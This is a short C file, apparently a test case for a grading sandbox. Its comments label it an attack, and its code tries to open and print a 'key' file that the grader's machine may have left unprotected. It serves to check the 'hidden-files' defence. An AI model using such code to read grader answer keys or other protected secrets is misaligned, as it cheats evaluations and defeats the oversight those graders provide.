// Attack:  prints a file that the grader's machine forgot to protect
// Lab:     fork
// Defence: hidden-files
// Without: leak
#include <stdio.h>

int main(void) {
  char line[100];
  FILE* key = fopen("@FOLDER@/key", "r");
  if (key && fgets(line, sizeof line, key)) puts(line);
  return 1;
}
